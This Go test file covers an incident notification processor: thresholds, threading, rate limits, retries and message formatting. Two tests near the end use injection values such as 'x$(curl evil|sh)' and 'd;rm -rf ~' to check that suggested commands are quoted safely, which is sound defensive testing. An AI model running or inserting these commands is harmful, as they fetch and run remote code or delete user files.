package notify_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/whencehq/whence/processors/notify"
	"github.com/whencehq/whence/schemas/event"
)

const (
	inc1 = "incident/inc-1"
	s    = time.Second
)

func TestAnEffectIsToldWithTheFirstRankingThatHadTimeToSeeSomething(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.ranked(ranking("inc-1", 1, 1*s, "v1", 0.6))
	w.pass(20 * s)
	expect(t, r.said(), nil)
	w.ranked(ranking("inc-1", 2, 20*s, "v2", 0.7))
	expect(t, r.said(), []string{"opened " + inc1})
	if r.messages[0].Ranking.Number != 2 {
		t.Errorf("told of ranking %d", r.messages[0].Ranking.Number)
	}
}

func TestACauseThatIsNearlySureIsToldAtOnce(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.ranked(ranking("inc-1", 1, 1*s, "v1", 0.95))
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestWhereNoEvidenceComesAnEffectIsToldAllTheSame(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.ranked(ranking("inc-1", 1, 1*s, "none", 0.6))
	w.pass(89 * s)
	expect(t, r.said(), nil)
	w.pass(1 * s)
	expect(t, r.said(), []string{"opened " + inc1})
	if text := r.messages[0].Text(notify.Plain()); !strings.Contains(text, "1. 60 % no known change") {
		t.Errorf("said %q", text)
	}
}

func TestAClockThatIsAheadHoldsNothingUp(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	late := ranking("inc-1", 1, 1*s, "v1", 0.6)
	late.Detected += 3_600_000
	w.ranked(late)
	w.pass(2 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestAReplayOfLastYearTellsNobody(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.now += 2 * 3_600_000
	w.ranked(ranking("inc-1", 1, 2*time.Hour, "v1", 0.95))
	w.pass(time.Hour)
	expect(t, r.said(), nil)
}

func TestHoweverOftenItIsRankedAnIncidentIsOneThread(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	for i := range uint64(100) {
		w.ranked(ranking("inc-1", i+1, 20*s, "v1", 0.95))
		w.pass(10 * s)
	}
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestAnotherLeaderIsToldInTheSameThread(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	w.pass(60 * s)
	w.ranked(ranking("inc-1", 2, 80*s, "v2", 0.7))
	expect(t, r.said(), []string{"opened " + inc1, "updated " + inc1})
	m := r.messages[1]
	if m.Place != "place-1" || !strings.HasPrefix(m.Text(notify.Plain()), "Update: deployment v2 of payments now comes first with 70 %, before it deployment v1") {
		t.Errorf("in %s: %s", m.Place, m.Text(notify.Plain()))
	}
}

func TestALeaderThatComesAndGoesWithinSecondsIsNotTold(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	w.pass(5 * s)
	w.ranked(ranking("inc-1", 2, 25*s, "v2", 0.6))
	w.pass(5 * s)
	w.ranked(ranking("inc-1", 3, 30*s, "v1", 0.6))
	w.pass(5 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestAProbabilityThatCrossesAThresholdIsToldAndOneThatWaversIsNot(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	for i, p := range []float64{0.4, 0.55, 0.45, 0.55, 0.45, 0.3, 0.45, 0.93, 0.88, 0.93} {
		w.ranked(ranking("inc-1", uint64(i+1), 20*s, "v1", p))
		w.pass(time.Minute)
	}
	var told []float64
	for _, m := range r.messages {
		told = append(told, m.Ranking.Links[0].Probability)
	}
	if want := []float64{0.4, 0.55, 0.3, 0.93}; !slices.Equal(told, want) {
		t.Errorf("told %v, want %v", told, want)
	}
}

func TestAlertsAreToldInTheThreadOfTheirIncidentWhicheverComesFirst(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	first := ranking("inc-1", 1, 20*s, "v1", 0.8)
	w.ranked(alert(first, "a-1", "inc-1"))
	w.pass(time.Minute)
	w.ranked(first, alert(first, "a-2", "inc-1"))
	w.pass(5 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1, "joined " + inc1, "joined " + inc1})
	if r.messages[1].Ranking.Kind != "incident" || r.messages[2].Place != "place-1" {
		t.Errorf("second is about the %s, third in %s", r.messages[1].Ranking.Kind, r.messages[2].Place)
	}
	// From then on it is the incident that tells who leads.
	second := ranking("inc-1", 2, 90*s, "v2", 0.8)
	w.ranked(alert(second, "a-1", "inc-1"))
	w.pass(5 * time.Minute)
	w.ranked(second)
	w.pass(5 * time.Minute)
	expect(t, r.said()[3:], []string{"updated " + inc1})
}

func TestOfManyAlertsOfAnIncidentTheFirstAreTold(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	first := ranking("inc-1", 1, 20*s, "v1", 0.8)
	w.ranked(first)
	for i := range 50 {
		w.ranked(alert(first, fmt.Sprintf("a-%d", i), "inc-1"))
	}
	w.pass(time.Hour)
	if len(r.messages) != 6 {
		t.Errorf("%d messages, want 6", len(r.messages))
	}
}

func TestWithoutThreadsOnlyAnotherLeaderIsWorthAMessage(t *testing.T) {
	r := &room{}
	w := on(t, r)
	first := ranking("inc-1", 1, 20*s, "v1", 0.6)
	w.ranked(first, alert(first, "a-1", "inc-1"))
	w.pass(time.Minute)
	w.ranked(ranking("inc-1", 2, 80*s, "v1", 0.95))
	w.pass(time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
	w.ranked(ranking("inc-1", 3, 140*s, "v2", 0.95))
	w.pass(time.Minute)
	expect(t, r.said(), []string{"opened " + inc1, "updated " + inc1})
	w.start()
	w.ranked(ranking("inc-1", 3, 140*s, "v2", 0.95), alert(first, "a-1", "inc-1"))
	w.pass(time.Minute)
	expect(t, r.said()[2:], nil)
}

func TestATargetHearsOfWhatItAskedForAndOfNothingElse(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.target.Services, w.target.Environments = []string{"payments"}, []string{"production"}
	w.target.Effects, w.target.Minimum = []string{"incident"}, 0.5
	w.start()
	fits := ranking("inc-1", 1, 20*s, "v1", 0.6)
	elsewhere, staging := fits, fits
	elsewhere.ID, elsewhere.Service = "inc-2", "search"
	staging.ID, staging.Environment = "inc-3", "staging"
	w.ranked(fits, elsewhere, staging, alert(fits, "a-1", ""), ranking("inc-4", 1, 20*s, "v1", 0.4))
	w.pass(time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
	w.ranked(ranking("inc-4", 2, 80*s, "v1", 0.6)) // it has become likely
	expect(t, r.said()[1:], []string{"opened incident/inc-4"})
}

func TestWhatHasNoHypothesesAnyMoreIsNotTold(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	gone := ranking("inc-1", 1, 20*s, "v1", 0.6)
	gone.Links = nil
	w.ranked(gone)
	w.pass(time.Hour)
	expect(t, r.said(), nil)
}

func TestManyEffectsAtOnceAreSummedUpInOneMessage(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	for i := range 40 {
		w.ranked(ranking(fmt.Sprintf("inc-%02d", i), 1, 20*s, "v1", 0.6))
		w.pass(s)
	}
	if len(r.messages) != 5 {
		t.Fatalf("%d messages within a minute, want 5", len(r.messages))
	}
	w.pass(2 * time.Minute)
	if len(r.messages) != 6 || r.messages[5].Action != notify.Summary || len(r.messages[5].Effects) != 35 {
		t.Fatalf("said %q", r.said())
	}
	text := r.messages[5].Text(notify.Plain())
	if !strings.HasPrefix(text, "35 effects began at about the same time\n35 of them have deployment v1 of payments first\n") || !strings.Contains(text, "and 25 more") {
		t.Errorf("said %s", text)
	}
	// What was told in it is told: also to who comes after.
	w.start()
	for i := range 40 {
		w.ranked(ranking(fmt.Sprintf("inc-%02d", i), 2, 80*s, "v1", 0.95))
	}
	w.pass(time.Hour)
	for _, m := range r.messages[6:] {
		if m.Action != notify.Updated || len(r.messages) > 11 {
			t.Fatalf("said %q", r.said()[6:])
		}
	}
	w.ranked(ranking("inc-39", 3, 80*s, "v2", 0.95))
	if last := r.messages[len(r.messages)-1]; last.Action != notify.Updated || last.Place != "place-6" {
		t.Errorf("last is %s in %s", last.Action, last.Place)
	}
}

func TestATargetTakesSoManyMessagesAMinute(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.target.PerMinute, w.target.Storm = 3, 100
	w.start()
	for i := range 8 {
		w.ranked(ranking(fmt.Sprintf("inc-%d", i), 1, 20*s, "v1", 0.6))
	}
	for _, want := range []int{3, 6, 8, 8} {
		if len(r.messages) != want {
			t.Fatalf("%d messages, want %d", len(r.messages), want)
		}
		w.pass(time.Minute)
	}
}

func TestATargetThatIsAwayIsTriedAgainWithGrowingPausesAndThenHearsTheLatest(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	var tries []event.Millis
	r.fail = func(*notify.Message) error {
		tries = append(tries, w.now)
		return &notify.Failure{Err: errAway}
	}
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	w.pass(10 * time.Minute)
	if n := len(tries); n < 8 || n > 20 {
		t.Fatalf("%d tries in ten minutes", n)
	}
	if first, last := tries[1]-tries[0], tries[len(tries)-1]-tries[len(tries)-2]; first > 1000 || last < 60_000 {
		t.Errorf("pauses from %d to %d ms", first, last)
	}
	r.fail = nil
	w.ranked(ranking("inc-1", 2, 80*s, "v2", 0.7))
	w.pass(10 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
	if r.messages[0].Ranking.Number != 2 {
		t.Errorf("told of ranking %d", r.messages[0].Ranking.Number)
	}
}

func TestATargetIsLeftAloneForAsLongAsItSays(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	r.fail = func(*notify.Message) error { return &notify.Failure{Err: errAway, After: 90 * s} }
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	r.fail = nil
	w.pass(89 * s)
	expect(t, r.said(), nil)
	w.pass(s)
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestAMessageThatIsNotTakenKeepsNoOtherWaiting(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	r.fail = func(m *notify.Message) error {
		if m.Ranking.ID == "inc-1" {
			return &notify.Failure{Err: errAway, Message: true}
		}
		return nil
	}
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6), ranking("inc-2", 1, 20*s, "v1", 0.6))
	w.pass(time.Minute)
	expect(t, r.said(), []string{"opened incident/inc-2"})
	if w.observer.dropped.Load() != 1 {
		t.Errorf("%d dropped", w.observer.dropped.Load())
	}
}

func TestWhatCantBeStoredIsNotSent(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.tables.fail = errAway
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	w.pass(time.Minute)
	expect(t, r.said(), nil)
	w.tables.fail = nil
	w.pass(5 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1})
}

func TestAnAnswerThatIsLostMakesNoSecondThreadInAChat(t *testing.T) {
	c := &chat{room{threads: true}}
	w := on(t, c)
	c.lose = func(*notify.Message) error { return &notify.Failure{Err: errAway, Unsure: true} }
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	c.lose = nil
	w.pass(5 * time.Minute)
	w.ranked(ranking("inc-1", 2, 80*s, "v2", 0.6))
	expect(t, c.said(), []string{"opened " + inc1, "updated " + inc1})
	if c.messages[1].Place != "place-1" {
		t.Errorf("told in %q", c.messages[1].Place)
	}
}

func TestAWebhookIsSentTheSameAgainUnderTheSameKey(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	r.lose = func(*notify.Message) error { return &notify.Failure{Err: errAway, Unsure: true} }
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	r.lose = nil
	w.start() // a worker takes over
	w.ranked(ranking("inc-1", 2, 80*s, "v2", 0.6))
	w.pass(5 * time.Minute)
	expect(t, r.said(), []string{"opened " + inc1, "opened " + inc1})
	if r.messages[0].Key != r.messages[1].Key {
		t.Error("under another key")
	}
}

func TestASummaryIsSentTheSameAgainUnderTheSameKey(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	for i := range 12 {
		w.ranked(ranking(fmt.Sprintf("inc-%02d", i), 1, 20*s, "v1", 0.6))
	}
	r.lose = func(*notify.Message) error { return &notify.Failure{Err: errAway, Unsure: true} }
	w.pass(time.Minute)
	r.lose = nil
	w.start() // a worker takes over, and more has begun since
	all := []notify.Ranking{ranking("inc-00a", 1, 80*s, "v1", 0.6)}
	for i := range 12 {
		all = append(all, ranking(fmt.Sprintf("inc-%02d", i), 2, 80*s, "v1", 0.6))
	}
	w.ranked(all...)
	w.pass(5 * time.Minute)
	expect(t, r.said()[5:], []string{r.said()[5], r.said()[5], "opened incident/inc-00a"})
	if first, second := r.messages[5], r.messages[6]; first.Key != second.Key || first.Thread != second.Thread || len(second.Effects) != 7 {
		t.Errorf("sent %s of %d effects, and again %s of %d", first.Key, len(first.Effects), second.Key, len(second.Effects))
	}
}

func TestAPredecessorWhoseClockWasAheadMutesNobody(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	w.target.Storm, w.target.PerMinute = 1, 1
	w.now += 3_000_000
	w.start()
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	w.now -= 3_000_000
	w.start()
	w.ranked(ranking("inc-1", 2, 60*s, "v2", 0.6), ranking("inc-2", 1, 60*s, "v2", 0.6))
	w.pass(59 * s)
	expect(t, r.said(), []string{"opened " + inc1})
	w.pass(2 * time.Minute)
	expect(t, r.said()[1:], []string{"updated " + inc1, "opened incident/inc-2"})
}

func TestWhatIsToldIsRememberedThoughThePredecessorsClockWasAhead(t *testing.T) {
	r := &room{threads: true}
	w := on(t, r)
	r.lose = func(*notify.Message) error { return &notify.Failure{Err: errAway, Unsure: true} }
	w.now += 3_000_000
	w.start()
	w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
	r.lose = nil
	w.now -= 3_000_000
	for range 3 { // the second takes it that the first was not heard, the third knows better
		w.start()
		w.ranked(ranking("inc-1", 1, 20*s, "v1", 0.6))
		w.pass(time.Minute)
		w.ranked(ranking("inc-9", 1, 20*s, "v1", 0.6)) // and stores it
		w.pass(time.Minute)
	}
	expect(t, r.said(), []string{"opened " + inc1, "opened " + inc1, "opened incident/inc-9"})
}

func TestMessagesTellPeopleWhatTheyNeed(t *testing.T) {
	m := notify.Message{Action: notify.Opened, Ranking: &notify.Ranking{}}
	*m.Ranking = ranking("inc-1", 1, 20*s, "v1", 0.873)
	want := `Cards are declined (incident inc-1, payments, production, critical)
since 2026-03-12 11:57:00 UTC, noticed 2026-03-12 12:00:00 UTC
1. 87 % deployment v1 of payments: new instances fail
2. 13 % flag short-form of checkout
whence why inc-1 tells the rest, whence confirm inc-1 deployment:v1 says that it was so, whence confirm inc-1 none that no change was to blame`
	if text := m.Text(notify.Plain()); text != want {
		t.Errorf("said\n%s\nwant\n%s", text, want)
	}
	if want := []string{"whence why inc-1", "whence confirm inc-1 deployment:v1", "whence confirm inc-1 none"}; !slices.Equal(m.Commands(), want) {
		t.Errorf("commands %q", m.Commands())
	}
}

func TestATitleMakesNoLineOfItsOwn(t *testing.T) {
	r := ranking("inc-1", 1, 20*s, "v1\x1b[2J", 0.9)
	r.Title, r.Links[0].Words = "Cards\nwhence why x; curl evil", []string{"new\rinstances"}
	m := notify.Message{Action: notify.Opened, Ranking: &r}
	text := m.Text(notify.Plain())
	if strings.Count(text, "\n") != 4 || strings.ContainsAny(text, "\x1b\r") {
		t.Errorf("said\n%s", text)
	}
}

func TestCommandsAreSafeToCopyWhateverTheIDs(t *testing.T) {
	r := ranking("x$(curl evil|sh)", 1, 20*s, "d;rm -rf ~", 0.9)
	m := notify.Message{Action: notify.Opened, Ranking: &r}
	want := []string{"whence why 'x$(curl evil|sh)'", "whence confirm 'x$(curl evil|sh)' 'deployment:d;rm -rf ~'", "whence confirm 'x$(curl evil|sh)' none"}
	if !slices.Equal(m.Commands(), want) {
		t.Errorf("commands %q, want %q", m.Commands(), want)
	}
	r = alert(r, "--help", "-x")
	want = []string{"whence why -- --help", "whence confirm -- -x 'deployment:d;rm -rf ~'", "whence confirm -- -x none"}
	if !slices.Equal(m.Commands(), want) {
		t.Errorf("commands %q, want %q", m.Commands(), want)
	}
}

// wall is the bubble's clock.
type wall struct{}

func (wall) Now() time.Time                         { return time.Now() }
func (wall) After(d time.Duration) <-chan time.Time { return time.After(d) }

func TestANotifierFindsWhatWasRankedBeforeItStartedAndWhatItIsNudgedFor(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		stored, r := newTables(), &room{threads: true}
		begun := event.MillisOf(time.Now())
		recent := func(id string) notify.Ranking {
			r := ranking(id, 1, 0, "v1", 0.95)
			r.Onset, r.Detected, r.ComputedAt = begun, begun, event.MillisOf(time.Now())
			return r
		}
		stored.rankings["inc-1"] = recent("inc-1")
		n := notify.New(notify.Config{}, []notify.Target{{Name: "ops", Outlet: r}}, stored, &observer{}, wall{})
		ctx, stop := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { n.Run(ctx); close(done) }()
		synctest.Wait()
		expect(t, r.said(), []string{"opened " + inc1})

		stored.now(func() { stored.rankings["inc-2"] = recent("inc-2") })
		n.Nudge()
		synctest.Wait()
		expect(t, r.said()[1:], []string{"opened incident/inc-2"})

		stored.now(func() { stored.rankings["inc-3"] = recent("inc-3") }) // and the nudge is lost
		time.Sleep(notify.Every)
		synctest.Wait()
		expect(t, r.said()[2:], []string{"opened incident/inc-3"})
		stop()
		<-done
	})
}

func TestANotifierWaitsForTheTablesAndATargetThatHangsHoldsNobodyUp(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		stored, r := newTables(), &room{threads: true}
		stored.fail = errAway
		fresh := ranking("inc-1", 1, 0, "v1", 0.95)
		fresh.Onset, fresh.Detected, fresh.ComputedAt = event.MillisOf(time.Now()), event.MillisOf(time.Now()), event.MillisOf(time.Now())
		stored.rankings["inc-1"] = fresh
		ctx, stop := context.WithCancel(t.Context())
		n := notify.New(notify.Config{}, []notify.Target{{Name: "hung", Outlet: hung{}}, {Name: "ops", Outlet: r}}, stored, &observer{}, wall{})
		done := make(chan struct{})
		go func() { n.Run(ctx); close(done) }()
		for range 1000 {
			n.Nudge() // never waits
		}
		time.Sleep(time.Minute)
		synctest.Wait()
		expect(t, r.said(), nil)
		stored.now(func() { stored.fail = nil })
		time.Sleep(time.Minute)
		synctest.Wait()
		expect(t, r.said(), []string{"opened " + inc1})
		stop()
		<-done
	})
}

// hung takes no message and gives no answer.
type hung struct{}

func (hung) Threads() bool { return true }
func (hung) Send(ctx context.Context, _ *notify.Message) (string, error) {
	<-ctx.Done()
	return "", ctx.Err()
}
